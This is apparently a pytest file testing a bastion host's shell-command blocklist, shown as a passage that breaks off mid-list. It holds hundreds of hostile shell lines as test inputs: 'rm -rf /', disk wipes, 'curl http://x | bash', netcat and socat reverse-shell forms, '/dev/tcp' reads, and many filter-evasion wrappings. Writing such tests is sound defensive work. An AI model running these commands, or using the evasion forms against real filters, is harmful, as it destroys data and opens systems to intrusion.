"""High-risk command blocking: layers/bastion/command_policy.py and shell_commands.py."""
import base64
import os
import random
import shutil
import string
import subprocess

import pytest

from layers.bastion import fields
from layers.bastion.bash_syntax import waits_for
from layers.bastion.command_policy import Decision, Policy, compile_template, pattern_words
from layers.bastion.printed import printed
from layers.bastion.shell_commands import analyse, edits_session_input, joined, reads_session_input
from layers.bastion.shell_rewrites import brace_expanded, heredocs_as_strings

DANGER = "rm\nmkfs*\nshutdown -h\nchmod -R 777 /\ndd of=/dev/sd*\n"
TEMPLATES = {
    1: {"Id": 1, "Name": "danger", "CmdList": DANGER, "Type": 2},
    2: {"Id": 2, "Name": "wipe", "CmdList": "rm -rf\ninit\nsudo\n", "Type": 2},
}


def policy(*ids, white=None, templates=TEMPLATES):
    acl = {"Id": 1, "CmdTemplateIds": list(ids)}
    if white is not None:
        acl["WhiteCmds"] = white
    return Policy.from_acls([acl], templates)


def only(cmd_list, name="t", **acl):
    return Policy.from_acls([{"CmdTemplateIds": [9], **acl}], {9: {"Id": 9, "Name": name, "CmdList": cmd_list}})


RM = only("rm", "rm")


@pytest.mark.parametrize("line", [
    "rm x", "ls;rm -rf /", "ls && rm x", "ls || rm x", "ls & rm x", "ls\nrm x", "ls | rm x",
    "(rm x)", "{ rm x; }", "echo $(rm x)", "echo `rm x`", 'echo "a $(rm x) b"', "echo ${X:-$(rm x)}",
    "X=$(rm x) ls", "cat <(rm x)", "tee >(rm x)", "echo $((1 + $(rm x)))",
    "if true; then rm x; fi", "if rm x; then :; fi", "while true; do rm x; done", "for i in 1 2; do rm $i; done",
    "for i in $(rm x); do :; done", "case a in a) rm x;; esac", "[[ -f x ]] && rm x", "! rm x",
    "f() { rm x; }; f", "function g { rm x; }", "cat <<EOF\n$(rm x)\nEOF", "export A=$(rm x)",
    "/bin/rm x", "/usr/bin/rm x", "./rm x", "~/bin/rm x", "r''m x", '"rm" x', "'rm' x", "\\rm x", "r\\m x",
    "$'\\x72m' x", "sudo rm x", "sudo -u root rm x", "sudo -u root -- rm x", "sudo -E HOME=/ rm x", "env PATH=/x:$PATH rm x",
    "doas -u root rm x", "env A=1 rm x", "env -i rm x", "env -u HOME rm x", "env -S 'rm x'",
    "nice -n 5 rm x", "nice -5 rm x", "nohup rm x &", "timeout 5 rm x", "timeout -s KILL -k 1 5 rm x",
    "find . | xargs rm", "xargs -I{} rm {}", "xargs -I {} rm {}", "xargs -n 1 -0 rm", "find . -exec rm {} \\;",
    "bash -c 'rm x'", 'sh -c "ls; rm x"', "dash -c 'rm x'", "zsh -c 'rm x'", "bash -lc 'rm x'",
    "bash -o pipefail -c 'rm x'", "eval rm x", "eval 'r''m' x", "eval \"ls; rm x\"", "exec rm x",
    "command rm x", "builtin rm x", "time rm x", "time -p rm x", "stdbuf -oL rm x", "setsid rm x",
    "ionice -c 3 rm x", "chroot /mnt rm x", "su -c 'rm x' root", "su - root -c 'rm x'", "runuser -u a -- rm x",
    "busybox rm x", "watch rm x", "watch -n 1 'ls; rm x'", "flock /tmp/l rm x", "flock /tmp/l -c 'rm x'",
    "bash <<EOF\nrm x\nEOF", "sh <<'EOF'\nls\nrm x\nEOF", "bash <<< 'rm x'", "echo 'rm x' | sh",
    "cat <<EOF | bash\nrm x\nEOF", "sudo bash -c \"nice timeout 5 env A=1 rm x\"",
    "sudo env A=1 nice -n 5 nohup timeout 5 busybox rm x", "sudo sh -c 'eval \"bash -c \\\"rm x\\\"\"'",
    "alias ll='rm -rf'", "X=rm; $X x", "coproc rm x",
    "{rm,-rf,x}", "{rm,x} y", "ls; {rm,x}", "{r..r}m x", "{'rm',x}",
    "coproc X { rm x; }", "coproc { rm x; }", "coproc X ( rm x )", "coproc X { ls; rm x; }",
    "coproc while rm x; do :; done", "time coproc { rm x; }", "! coproc N { rm x; }", "time -p ! coproc ( rm x )",
    "hash -p /bin/rm ls", "mapfile -C 'rm' -c 1 a < f", "readarray -C rm a < f",
    "script -c 'rm x'", "script -q -c 'rm x' /dev/null", "script --command='rm x'", "ssh localhost rm x",
    "ssh -p 22 host 'rm -rf /'", "ssh host -l root rm x", "ssh host -- rm x", "at now <<< 'rm x'",
    "echo 'rm x' | at now", "batch <<< 'rm x'", "pkexec rm x", "pkexec --user root rm x",
    "cat <<EOF; rm x\nbody\nEOF", "cat <<EOF; rm x", "cat <<EOF & rm x\nEOF", "bash <<EOF; ls\nrm x\nEOF",
    "bash -c 'cat <<EOF; rm x'", "cat <<-EOF >f; ls\n\tbody\n\tEOF\nrm x",
    "sudo >/dev/null rm x", "nice 2>&1 rm x", "sudo <<EOF rm x\nb\nEOF", "time { rm x; }", "time -p ( rm x )",
    "! { rm x; }", "\\ # x; rm x", "echo 审计\\ # x; rm x", "bash -c '[<<-EOF;rm x'", "bash -c '{rm,x};\\'", "cat >f <<EOF; rm x", "sudo tee f >/dev/null <<EOF\n$(rm x)\nEOF",
])
def test_every_construct_and_normalisation_is_checked(line):
    d = RM.check(line)
    assert not d.allowed, line
    assert d.reason == "template" and d.template == "rm" and d.rule == "rm"
    assert d.command.startswith("rm"), d.command


@pytest.mark.parametrize("line", [
    "ls -la", "vim init.py", "grep rm file", 'echo "rm -rf /"', "echo rm -rf /", "man rm", "which rm",
    "command -v rm", "printf 'rm x'", "cat rm.log", "rmdir x", "git rm x", "docker rm x", "echo '$(rm x)'",
    "cat <<'EOF'\n$(rm x)\nEOF", "# rm x", "ls # rm -rf /", "perm x", "sudo -l", "bash script.sh",
    "apt-get install rm-tools", "rm_old x", "x=rm", "echo $((1+2))",
    "echo {rm,x}", "cp f{,.bak}", "echo '{rm,x}'", "{q..r}m x", "a={rm,x}", "echo x > {rm,x}", "{ ls; }",
    "ssh host", "ssh -t -p 22 host", "ssh host ls -l rm", "at -l", "at -f job.sh now", "hash -r", "mapfile a < f",
    "script session.log", "coproc ls", "time { ls; }", "ls >f rm", "echo $#; ls # rm x", "echo 审计 # rm x", "cat <<EOF >f; ls\nrm -rf /\nEOF", "cat <<'EOF'; ls\n$(rm x)\nEOF",
    "exec {fd}>rm.log ls", "echo {fd}>x rm x", "exec {fd}>&-", "X=ls; $X x", "{ X=ls; }; $X x", "X=ls && $X x",
    "X=ls; echo hi; ls; $X x", "X=l; X+=s; $X x",
    "env -S 'ls -l' x", "ls > } [r]m", "{ ls; } > x", "echo ${X:-'$(rm x)'}", "echo \"$(echo ${X:-'$(rm x)'})\"", "X=>rm.log; ls", "f | X=1 >rm.log ls", "echo a=>rm",
])
def test_look_alikes_are_allowed(line):
    policy = only("rm")         # a session of its own: an earlier line may have changed IFS in RM's
    assert policy.check(line).allowed, policy.check(line).message


@pytest.mark.parametrize("line", ["rm -rf /", "rm -r -f x", "rm -fr x", "rm -Rf x", "rm -f -R x", "rm -rfv x",
                                  "rm -v -r -f -- x", "sudo rm -fr /tmp/x", "rm >f -rf x", "rm -r 2>&1 -f x"])
def test_option_clusters_are_expanded(line):
    d = only("rm -rf").check(line)
    assert not d.allowed and d.rule == "rm -rf"


@pytest.mark.parametrize("line", ["rm x", "rm -r x", "rm -f x", "echo -rf"])
def test_option_patterns_need_every_letter(line):
    assert only("rm -rf").check(line).allowed


def test_argument_words_globs_and_long_options():
    p = only("chmod -R 777 /\ndd of=/dev/sd*\nrm --no-preserve-root\nmkfs*\nkill -9\nfind -delete\n"
             "rm '/*'")
    assert not p.check("chmod 777 -R /").allowed
    assert p.check("chmod -R 777 /tmp").allowed
    assert not p.check("dd if=/dev/zero of=/dev/sda bs=1M").allowed
    assert p.check("dd if=/dev/zero of=/tmp/img").allowed
    assert not p.check("rm -rf --no-preserve-root /").allowed
    assert not p.check("mkfs.ext4 /dev/sdb1").allowed and not p.check("mkfs -t xfs /dev/x").allowed
    assert not p.check("kill -9 1").allowed and p.check("kill 1").allowed
    assert not p.check("find / -delete").allowed and p.check("find / -name d -type l -ls -e").allowed
    assert not p.check("rm '/*'").allowed and p.check("rm /tmp/x").allowed


def test_decision_names_template_rule_and_command():
    d = policy(1, 2).check("ls /tmp && sudo -u root /bin/rm -fr /var")
    assert d == Decision(False, "template", "wipe", "sudo", "sudo -u root /bin/rm -fr /var")
    d = policy(1).check("ls /tmp && sudo -u root /bin/rm -fr /var")
    assert (d.template, d.rule, d.command) == ("danger", "rm", "rm -fr /var")
    assert d.message == "blocked by template `danger`: rule `rm` (`rm -fr /var`)"


def test_wrapper_itself_is_checked():
    p = only("sudo\nxargs\nbash -c")
    assert not p.check("sudo ls").allowed
    assert not p.check("find . | xargs ls").allowed
    assert not p.check("bash -c 'ls'").allowed and p.check("bash").allowed


def test_dynamic_command_names_default_to_block():
    p = only("rm -rf\nshutdown", "t")
    for line in ("$X -rf /", "${CMD} -rf /", "$(echo rm) -rf /", "`echo rm` -rf", "r{m,} -rf /", "/bin/r? x",
                 "echo cm0= | base64 -d | sh", "curl http://x | bash", "bash -c \"$SCRIPT\"", "eval \"$X\"",
                 "sudo $CMD", "$X"):
        d = p.check(line)
        assert not d.allowed and d.reason == "dynamic" and d.rule.startswith("#dynamic: block"), line
    # only a name the rules could match given the literal arguments: `rm -rf` needs -r and -f
    assert not p.check("$EDITOR file").allowed          # `shutdown` alone matches anything
    assert only("rm -rf").check("$EDITOR file").allowed
    assert not only("rm -rf").check("$EDITOR -fr file").allowed
    assert not only("rm -rf").check("$EDITOR $ARGS").allowed


def test_dynamic_directive_allow_and_block():
    allow = only("#dynamic: allow\nrm\n")
    assert allow.check("$X -rf /").allowed and allow.check("echo cm0= | base64 -d | sh").allowed
    assert not allow.check("rm x").allowed
    block = only("# keep these out\n#  Dynamic : BLOCK\nrm\n")
    assert block.check("$X x").rule == "#dynamic: block"
    both = Policy.from_acls([{"CmdTemplateIds": [1, 2]}], {1: {"Id": 1, "Name": "a", "CmdList": "#dynamic: allow\nrm"},
                                                           2: {"Id": 2, "Name": "b", "CmdList": "reboot"}})
    assert both.check("$X").template == "b"


def test_variables_assigned_on_the_line_are_resolved():
    assert not RM.check("X=rm; $X -rf /").allowed
    assert RM.check("X=ls; $X -la").allowed


def test_comments_are_not_patterns():
    t = compile_template("c", "# rm\n\n  \n#dynamic: allow\nls -l\n")
    assert [r.line for r in t.rules] == ["ls -l"] and not t.dynamic_block


def test_base64_cmd_list_is_decoded():
    text = fields.cmd_list(base64.b64encode("reboot\nrm -rf\n".encode()).decode(), 1)
    p = Policy.from_acls([{"CmdTemplateIds": [5]}], {5: {"Id": 5, "Name": "b64", "CmdList": text}})
    assert not p.check("reboot").allowed and not p.check("rm -rf /").allowed and p.check("rm x").allowed
    raw = {5: {"Id": 5, "Name": "b64", "CmdList": base64.b64encode(b"reboot").decode(), "Encoding": 1}}
    assert not Policy.from_acls([{"CmdTemplateIds": [5]}], raw).check("/sbin/reboot").allowed


def test_allow_list_mode():
    p = policy(2, white=["ls", "cat /var/log/*", "grep", "sudo systemctl status"])
    assert p.check("ls -la /tmp").allowed
    assert p.check("cat /var/log/syslog | grep error").allowed
    d = p.check("ls; vim x")
    assert not d.allowed and d.reason == "allow-list" and d.command == "vim x"
    assert not p.check("cat /etc/shadow").allowed
    assert not p.check("sudo systemctl status nginx").allowed           # template `sudo` still applies
    q = policy(white=["ls", "sudo systemctl status", "grep"])
    assert q.check("sudo systemctl status nginx").allowed
    assert not q.check("sudo systemctl stop nginx").allowed
    assert not q.check("sudo systemctl stop status").allowed
    assert not q.check("ls $(id)").allowed                            # every command, substitutions too
    assert not q.check("$X").allowed and q.check("$X").reason == "dynamic"
    assert not q.check("ls )").allowed                                # unparsable
    assert q.check("f() { ls; }; f").allowed                          # the body is checked instead
    assert policy(white=[]).check("anything").allowed                 # empty list: no allow-list mode


def test_allow_list_of_any_granting_acl_applies():
    p = Policy.from_acls([{"CmdTemplateIds": []}, {"CmdTemplateIds": [], "WhiteCmds": ["ls"]},
                          {"WhiteCmds": ["df"]}], {})
    assert p.check("ls && df -h").allowed and not p.check("du").allowed


def test_no_templates_means_nothing_blocked():
    p = Policy.from_acls([{"CmdTemplateIds": [42]}], {})
    assert not p.enforcing and p.check("rm -rf /").allowed and p.rules == ()


def test_multi_line_paste_checks_each_line():
    block = "cd /srv\nls -la\n\ngit pull\nrm -rf build\nmake\n"
    d = only("rm -rf").check(block)
    assert not d.allowed and d.command == "rm -rf build"
    assert only("rm -rf").check("cd /srv\r\nls\r\n").allowed


def test_incomplete_lines_wait_for_more():
    for line in ('echo "abc', "echo 'ab", "ls |", "ls &&", "if true; then", "for i in 1; do", "ls \\",
                 "echo $(ls", "cat <<EOF\nabc"):
        d = RM.check(line)
        assert d.allowed and d.incomplete, line
    assert not RM.check("rm x; echo \"abc").allowed
    assert RM.check('echo "abc\n; rm x"').allowed                   # continued: the rm is inside the string


def test_unparsable_lines_fall_back_to_command_words():
    assert not RM.check("ls ) ; rm -rf /").allowed
    assert RM.check("ls ) ; echo rm").allowed


def test_grant_helper():
    class Grant:
        acls = [{"CmdTemplateIds": [2]}]
        templates = {2: TEMPLATES[2]}

    class Snap:
        templates = TEMPLATES

    assert not Policy.from_grant(Grant()).check("init 0").allowed
    assert not Policy.from_grant(Grant(), Snap()).check("sudo ls").allowed


def test_pattern_words_quote_globs():
    assert pattern_words("rm -rf '/*' \"a b\" c\\*") == [("rm", "rm", False), ("-rf", "-rf", False),
                                                          ("/*", "/[*]", True), ("a b", "a b", True),
                                                          ("c*", "c[*]", False)]


def test_analysis_reports_wrappers():
    a = analyse("sudo -u root bash -c 'nice rm x'")
    assert [c.text for c in a.commands] == ["sudo -u root bash -c 'nice rm x'", "bash -c 'nice rm x'",
                                            "nice rm x", "rm x"]
    assert a.commands[-1].via == ("sudo", "bash -c", "nice")


def test_check_never_raises():
    rng = random.Random(7)
    p = policy(1, 2)
    q = policy(2, white=["ls"])
    alphabet = string.printable + "$(){}[]<>|&;`'\"\\ \n\t*?~#!\x00\x1b\u00e9\u4e2d"
    lines = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 80))) for _ in range(300)]
    lines += ["$(" * 2000 + "rm" + ")" * 2000, "(" * 5000, "eval " * 300 + "rm", "a" * 300000, "\ud800 rm",
              "bash -c " + "'bash -c " * 20 + "rm", "<<" * 100, "case", "esac", "))))", "${", "$'\\x"]
    for line in lines:
        for pol in (p, q):
            d = pol.check(line)
            assert isinstance(d, Decision)
    assert not p.check("$(" * 2000 + "rm" + ")" * 2000).allowed
    assert not p.check(None).allowed


@pytest.mark.parametrize("line", ["!!", "sudo !!", "!-2", "!rm", "!?rm?", "echo !$", "^ls^rm", "ls; ^x^y",
                                  'echo "!!"', "echo a!b", "!!:s/ls/rm/", "ls\n!!"])
def test_history_expansion_is_only_known_when_the_line_runs(line):
    d = RM.check(line)
    if line == "ls; ^x^y":                       # `^` substitutes only at the start of a line
        assert d.allowed
        return
    assert not d.allowed and d.reason == "dynamic" and d.command.startswith(("!", "^")), (line, d)
    assert only("#dynamic: allow\nrm").check(line).allowed or "rm" in line


@pytest.mark.parametrize("line", ['echo "hi!"', "echo hi!", "[ a != b ] && ls", "! ls", "echo $!", "echo ${!x}",
                                  "ls [!a]*", "echo 'a!b'", "echo \\!x", 'echo "a\\!b"', "ls !(x)", "x=!",
                                  "echo a ! b", "if ! true; then ls; fi"])
def test_exclamation_marks_bash_leaves_alone_are_not_history(line):
    assert RM.check(line).allowed, line


@pytest.mark.parametrize("line, allowed", [
    ("fc -s ls=rm", False), ("fc -s", False), ("fc", False), ("fc -e vi 10", False), ("fc -l", True), ("fc -ln -5", True),
    ("bind '\"\\C-t\": accept-line'", False), ("bind '\"\\C-t\": \"ls\\n\"'", False), ("bind -x '\"\\C-t\": ls'", False),
    ("bind -f ~/.inputrc", False), ("bind -m vi-command '\"v\": accept-line'", False), ("bind \"$B\"", False),
    ("bind 'set enable-bracketed-paste off'", True), ("bind -p", True), ("bind -q accept-line", True),
    ("bind -r '\\C-t'", True), ("bind -lp", True),
])
def test_fc_and_key_bindings_run_lines_no_enter_shows(line, allowed):
    d = RM.check(line)
    assert d.allowed == allowed, (line, d)
    if not allowed:
        assert d.reason == "dynamic" and d.command.startswith(("(`fc`", "(`bind`")), d


@pytest.mark.parametrize("line, allowed", [
    ("trap 'rm x' EXIT", False), ("trap 'rm x' DEBUG", False), ("trap -- 'rm x' INT", False),
    ("trap \"$X\" EXIT", False), ("trap 'echo bye' EXIT", True), ("trap - INT", True), ("trap -p", True),
    ("trap '' INT", True),
    ("PROMPT_COMMAND='rm x'", False), ("export PROMPT_COMMAND='rm x'", False), ("PROMPT_COMMAND=('ls' 'rm x')", False),
    ("PROMPT_COMMAND=\"$X\"", False), ("PROMPT_COMMAND='history -a'", True), ("PROMPT_COMMAND='rm x' ls", True),
    ("PS1='$(rm x) $ '", False), ("PS1='`rm x`'", False), ("declare PS0='$(rm x)'", False),
    ("PS1='\\u@\\h:\\w\\$ '", True), ('PS1="$PS1 x"', True),
    ("PS1=$X'$(rm x)'", False), ('PS1="$X> "', False),     # after quote removal; X's value expanded again
    ("PS1='(venv) \\w$ '", True), ("PS1='a;rm|c'", True), ('PS1="(venv) ${PS1}"', True),   # text, not code
    ("complete -W $X'$(rm x)' ls", False),
    ("complete -C 'rm x' ls", False), ("complete -o default -C 'rm x' ls", False), ("complete -Crm ls", False),
    ("complete -C \"$X\" ls", False), ("compgen -C 'rm x'", False), ("complete -W '$(rm x)' ls", False),
    ("complete -W 'a b c' ls", True), ("complete -F _f ls", True),
])
def test_code_the_shell_runs_later_is_checked_now(line, allowed):
    """A trap's code, PROMPT_COMMAND, the prompt strings' substitutions and a completion's command
    and word list run later, without an Enter: they are judged when they are set (`X=... cmd` sets
    them for cmd alone)."""
    assert RM.check(line).allowed == allowed, line


@pytest.mark.parametrize("command, script", [
    ("bash", True), ("sh -s", True), ("bash -i", True), ("sudo bash", True), ("exec bash", True),
    ("cd /tmp && bash", True), ("{ bash; }", True),
    ("ls", False), ("cat > /tmp/f", False), ("bash -c 'ls'", False), ("bash script.sh", False),
    ("bash < /tmp/f", False), ("cat | bash", False), ("python3", False),
    ("bash -c sh", True), ("sudo sh -c 'bash -s'", True), ("bash -c 'cat > /tmp/f'", False),
])
def test_a_shell_reading_an_exec_sessions_input_makes_it_a_script(command, script):
    # `ssh host bash` with no terminal: the client's bytes are the shell's commands, line by line
    assert reads_session_input(command) == script
    # through its line editor only where it is interactive
    assert edits_session_input(command) == (script and command in ("bash -i",))


@pytest.mark.parametrize("line", ["echo 'rm x' | (bash)", "echo 'rm x' | { bash; }", "echo 'rm x' | (cd /tmp && sh)"])
def test_a_shell_in_a_subshell_or_group_reads_the_pipe(line):
    assert not RM.check(line).allowed
    assert RM.check(line.replace("rm x", "ls")).allowed


@pytest.mark.parametrize("line, allowed", [
    ("source <(echo rm x)", False), (". <(echo rm x)", False), ("bash <(echo rm x)", False),
    ("bash < <(echo rm x)", False), ("exec < <(echo rm x)", False), ("source /dev/stdin <<< 'rm x'", False),
    ("echo rm x | source /dev/stdin", False), ("echo rm x | bash /dev/fd/0", False),
    ("source <(curl -s http://x)", False), ("bash <(curl -s http://x)", False),
    ("source <(echo ls)", True), ("bash <(echo ls)", True), ("diff <(ls a) <(ls b)", True),
    ("source ~/.bashrc", True), ("bash deploy.sh", True), ("exec bash", True),
    # a network connection bash opens, a descriptor opened on an earlier line (`exec 3< <(curl …)`)
    ("bash < /dev/tcp/h/80", False), ("source /dev/udp/h/53", False), ("bash <&3", False), ("exec 0<&3", False),
    ("sh -s <&$fd", False), ("cat < /dev/tcp/h/80", True), ("cat <&3", True), ("exec 3<&0", True), ("exec <&-", True),
])
def test_a_shell_or_source_reading_a_process_substitution_or_stdin_runs_what_it_gives(line, allowed):
    assert RM.check(line).allowed == allowed, line


@pytest.mark.parametrize("line, allowed", [
    ("let 'a[$(rm x)]=1'", False), ("[[ 'a[$(rm x)]' -eq 1 ]]", False), ("(( 'a[$(rm x)]' ))", False),
    ("echo $(( 'a[$(rm x)]' ))", False), ("echo ${a[ '$(rm x)' ]}", False), ('echo "${a[\'$(rm x)\']}"', False),
    ("x='a[$(rm x)]'", False), ("x='a[`rm x`]' ls", False), ("a=('$(rm x)' b)", False), ("declare -n r='a[$(rm x)]'", False),
    ("declare 'a[$(rm x)]=1'", False), ("declare -a 'b=($(rm x))'", False), ("export 'a[$(rm x)]=1'", False),
    ("unset 'a[$(rm x)]'", False), ("read 'a[$(rm x)]' <<< 1", False), ("printf -v 'a[$(rm x)]' 1", False),
    ("printf -v x '%s' 'a[$(rm x)]'", False), ("test -v 'a[$(rm x)]'", False), ("mapfile 'a[$(rm x)]' < f", False),
    ("builtin declare 'a[$(rm x)]=1'", False), ("wait -p 'a[$(rm x)]'", False), ("getopts a 'a[$(rm x)]'", False),
    ("echo ${x@P}", False), ("echo \"${x@P}\"", False), ("echo hi >&'$(rm x)'", False), ("{ ls; } >&'$(rm x)'", False),
    ("echo hi 2>&'$(rm x)'", True), ("echo hi >& f", True), ("echo 2>&1", True), ("-x2>& '$(rm x)' y", False),
    ("declare -a *", False), ("let *", False), ("read *", False), ("printf -v *", False), ("export a*", False),
    ("printf '%s\\n' *", True), ("[ -f *.txt ]", True), ("declare -a files=(*.log)", True), ("x=(*)", True),
    ("let i++", True), ("(( i += 2 ))", True), ("[[ $a -eq 1 ]]", True), ("x='$(date)'", True),
    ("msg='it`s'", True), ("printf '%s' '$(rm x)'", True), ("echo '$(rm x)'", True), ("read -r line", True),
    ("awk '{print $(NF-1)}' f", True), ("declare -A m=([a]=1)", True), ("echo ${x@Q} ${!x}", True),
])
def test_text_bash_evaluates_again_where_it_is_used_is_judged(line, allowed):
    """Quoted text that bash reads again as an array subscript or arithmetic (where its `$(...)`
    run), assigned to a variable that may reach one, given to a builtin that evaluates names; a
    prompt expansion of a variable (`${x@P}`) and file names given to such a builtin (`declare -a *`
    beside a file named `a[$(rm x)]`): names known only when they run."""
    assert RM.check(line).allowed == allowed, line


@pytest.mark.parametrize("line, allowed", [
    ("BASH_ENV=<(echo rm x) bash -c :", False), ("env BASH_ENV=/dev/stdin bash -c : <<< 'rm x'", False),
    ("bash --rcfile <(echo rm x) -i", False), ("BASH_ENV=/dev/stdin bash -c : <<< 'rm x'", False),
    ("ENV=<(echo rm x) sh -i", False), ("env BASH_ENV=<(curl -s http://x) bash -c :", False),
    ("BASH_ENV=~/.env bash -c ls", True), ("bash --rcfile ~/.bashrc -i", True), ("BASH_ENV=<(echo ls) bash -c :", True),
])
def test_a_startup_file_a_shell_runs_is_judged_like_its_script(line, allowed):
    assert RM.check(line).allowed == allowed, line


@pytest.mark.parametrize("line", [
    'env $"rm" x', 'nice $"r"m x', "ssh-agent rm x", "ssh-agent -t 60 rm x", "dbus-run-session -- rm x",
    "prlimit --nofile=10 rm x", "unshare -r --setuid 0 rm x", "chrt -f 10 rm x", "numactl -N 0 rm x",
    "numactl --interleave=all rm x", "systemd-run --user -u u1 rm x", "cgexec -g cpu:/x rm x",
    "firejail --private rm x", "sg wheel 'rm x'", "sg wheel -c 'rm x'", "script -q /dev/null -c 'rm x'",
    "screen -dm rm x", "screen -dmS s rm x", "screen -S s -X stuff 'rm x'", "[ a; {rm,x}", "[ a & {rm,-rf,/}",
    "true`ls``rm x`", 'echo "`ls``rm x`"', "x=`ls``rm x`",
    "ssh -o ProxyCommand='rm x' host", "ssh -oProxyCommand=rm host", "ssh -o 'LocalCommand rm x' host",
    "ssh -o RemoteCommand='rm x' host", "ssh -vo KnownHostsCommand=rm host", "ssh host -o proxycommand=rm",
    "time X=1 rm x", "time -p X=1 rm x", "coproc X=1 rm x", "coproc ENV= rm x",
    "nsenter -t 1 -m rm x", "nsenter -t1 --mount=/proc/1/ns/mnt rm x", "valgrind --tool=memcheck rm x",
    "gdb -ex run --args rm x", "toybox rm x", "fakeroot -- rm x", "bwrap --ro-bind / / --dev /dev --unshare-all rm x",
    "catchsegv rm x", 'xvfb-run -s "-screen 0 1x1x8" rm x', "sshpass -p pw rm x", "torify rm x",
    "proxychains4 -f f rm x", "tsocks rm x", "chronic rm x", "ifne -n rm x", "entr -c rm x", "entr -s 'rm x'",
    "machinectl shell .host /bin/rm x",
    # a command run in a container
    "docker exec -it -u root c rm x", "docker run -v /a:/b --network host img rm x", "podman exec c rm x",
    "docker compose exec svc rm x", "docker-compose run --rm svc rm x", "kubectl -n ns exec -it pod -c x -- rm x",
    "kubectl exec pod rm x", "kubectl run t --image=busybox -- rm x", "lxc exec c -- rm x",
    "lxc-attach -n c -- rm x", "systemd-nspawn -D /srv/c rm x", 'docker exec c bash -c "rm x"',
    # socat's EXEC/SYSTEM addresses, netcat's -e/-c: a command, code, or a shell reading a connection
    "socat - EXEC:rm", "socat - 'EXEC:rm x'", "socat - SYSTEM:'rm x'", "socat TCP:h:1 EXEC:/bin/sh",
    "nc -e /bin/rm h 1", "nc -c 'rm x' h 1", "ncat --sh-exec 'rm x' h 1", "ncat -e /bin/bash h 1",
    "nc -l -p 1 -e /bin/sh", "ncat --exec '/bin/rm x' h 1",
    "sftp -D /bin/rm", "strace -o '|rm x' ls", "ltrace -o '!rm x' ls", "ip netns exec ns rm x", "ip vrf exec v rm x",
    "start-stop-daemon --start --exec /bin/rm -- x", "daemonize -u root /bin/rm x", "dtach -c s rm x",
    "ansible localhost -m shell -a 'rm x'", "chpst -u root rm x", "setpriv --reuid 0 --clear-groups rm x",
    'capsh -- -c "rm x"', "su root -s /bin/rm",
])
def test_more_wrappers_and_spellings_are_followed(line):
    assert not RM.check(line).allowed, line


@pytest.mark.parametrize("line", ["ssh-agent -k", "prlimit -p 1", "chrt -p 1", "numactl -H", "systemd-run -S", "sg wheel",
                                  "script log", "screen -r", "screen -ls", "nice $ 'rm'", "[ a; echo {rm,x}",
                                  "gdb rm", "valgrind ls", "entr -c make", "machinectl list", "bwrap --bind / / ls",
                                  "docker rm x", "docker exec c ls $DIR", "kubectl delete pod rm", "docker logs rm",
                                  "docker run --name rm img ls", "docker run -it ubuntu", "socat - TCP:h:80",
                                  "socat TCP:h:1 EXEC:cat", "nc h 80", "nc -l -p 8080", "strace -o out.txt ls",
                                  "ip -n ns addr", "start-stop-daemon --stop --exec /bin/rm", "ansible all -m ping",
                                  "capsh --print", "su - root"])
def test_those_wrappers_running_nothing_are_allowed(line):
    assert RM.check(line).allowed, line


@pytest.mark.parametrize("line, allowed", [
    ("bash *", False), ("bash -x *", False), ("sh -e ?", False), ("mapfile *", False), ("trap * EXIT", False),
    ("script *", False), ("script log -q *", False), ("su * root", False), ("ssh host ls *.log", False),
    ("sg wheel*", False), ("flock * ls", False), ("eval ls *", False), ("watch ls *", False), ("sg wheel ls *", False),
    ("eval 'ls *'", True),
    ("bash script.sh *.log", True), ("ssh host 'ls *.log'", True), ("flock /tmp/l ls *.log", True), ("sudo ls *", True),
    ("xargs ls *", True), ("echo *", True), ("ls -l *.py", True),
])
def test_file_names_that_may_become_a_wrappers_options_or_code(line, allowed):
    """`bash *` in a directory holding files named `-c` and `rm x` runs `rm x`: a wrapper taking
    code in an option, given a pathname expansion where an option may be, runs code known only
    when it runs (ssh: anywhere, its remote command is the words joined, `;` in a name included)."""
    assert RM.check(line).allowed == allowed, line


@pytest.mark.parametrize("line", [
    "git -c core.pager='rm x' log", "git -c core.sshCommand='rm x' fetch", "git -c alias.x='!rm x' x",
    "git -C /tmp -c credential.helper='!rm x' push", "GIT_SSH_COMMAND='rm x' git fetch", "export PAGER='rm x'",
    "env PAGER='rm x' man ls", "EDITOR=rm crontab -e", "LESSOPEN='|rm x %s' less f", "declare -x VISUAL=rm",
    "tar --to-command='rm x' -xf a.tar", "tar -I 'rm x' -cf a.tar .", "tar --checkpoint-action=exec='rm x' -cf a .",
    "TAR_OPTIONS='--to-command=rm' tar xf a", "rsync -e 'rm x' a b:", "rsync --rsh='rm x' a b:",
    "man -P 'rm x' ls", "zip -TT 'rm x' a.zip f", "sort --compress-program=rm f", "tcpdump -z rm -w f",
    "scp -S rm a b:", "scp -o ProxyCommand='rm x' a b:", "sftp -o ProxyCommand='rm x' h",
    "wget --use-askpass='rm x' u", "apt-get -o APT::Update::Pre-Invoke::='rm x' update",
    "apt -o 'DPkg::Post-Invoke::=rm x' install p", "less '+!rm x' f", "vim -c '!rm x'", "vim -c ':!rm x' f",
    "vi +'!rm x'", "gdb -ex 'shell rm x'", "gdb -batch -ex '!rm x'", "gdb --eval-command='shell rm x'",
    "sudo git -c core.pager='rm x' log",
])
def test_programs_told_to_run_a_command_by_an_option_or_a_variable(line):
    d = RM.check(line)
    assert not d.allowed and d.command.startswith("rm"), line


@pytest.mark.parametrize("line", [
    "git log", "git -c user.name=x commit", "git -c alias.st=status st", "git grep -c rm", "git commit -m 'rm x'",
    "GIT_SSH_COMMAND='ssh -i k' git fetch", 'export GIT_SSH_COMMAND="ssh -i $KEY"', "export EDITOR=vim",
    "PAGER=less man rm", "tar -xf a.tar", "rsync -e 'ssh -p 22' a b:", "man rm", "tcpdump -i eth0", "scp a b:",
    "less +G f", "vim -c 'set nu' f", "vim +10 f", "gdb -ex run ./a", "apt-get -o Dpkg::Options::=--force-confdef install p",
])
def test_those_programs_told_to_run_an_allowed_command_or_none(line):
    assert RM.check(line).allowed, line


def test_a_command_variable_is_judged_against_the_allow_list():
    listed = policy(white=["git", "ls", "ssh"])
    assert listed.check("GIT_SSH_COMMAND='ssh -i k' git fetch").allowed
    assert not listed.check("GIT_SSH_COMMAND='nc -e sh x' git fetch").allowed
    assert not listed.check("PAGER=$X git log").allowed          # a name known only when it runs


@pytest.mark.parametrize("line, allowed", [
    ("!(x) y", False), ("+(r)m x", False), ("@(rm) x", False), ("ls; !(x)", False), ("[ a; !(x) y", False),
    ("env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls", False), ("env A=1 'B C=2' rm x", False),
